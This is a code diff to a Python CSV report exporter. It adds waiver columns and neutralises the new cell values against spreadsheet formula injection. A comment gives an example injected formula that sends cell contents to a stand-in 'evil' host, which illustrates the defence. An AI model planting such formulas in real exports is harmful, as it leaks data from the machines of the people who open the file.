@@ -13,6 +13,9 @@ COLUMNS = (
     "source_path", "source_line", "message", "missing", "evidence",
 )
 
+WAIVER_COLUMNS = ("waiver", "waiver_reason", "waiver_approved_by", "waiver_approved_on")
+WAIVER_KEYS = ("id", "reason", "approved_by", "approved_on")
+
 # Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell starting with one of these
 # as a formula, and record values reach the cells (keys, patients, messages quoting fields):
 # an export row like `=HYPERLINK("http://evil/?"&A1)` would run on the officer's machine.
@@ -48,5 +51,11 @@ def render(report: Report, out: TextIO) -> None:
     # when ``out`` is opened with newline="". QUOTE_ALL because with that terminator
     # QUOTE_MINIMAL leaves a bare "\r" in a cell unquoted, and spreadsheets split the row there.
     writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
-    writer.writerow(COLUMNS)
-    writer.writerows(_row(f) for f in report.findings)
+    if report.waivers is None:
+        writer.writerow(COLUMNS)
+        writer.writerows(_row(f) for f in report.findings)
+        return
+    # with --waivers: which waiver covered a waived row, and who approved it
+    writer.writerow((*COLUMNS, *WAIVER_COLUMNS))
+    writer.writerows([*_row(f), *(neutralise(_cell((f.waiver or {}).get(name))) for name in WAIVER_KEYS)]
+                     for f in report.findings)
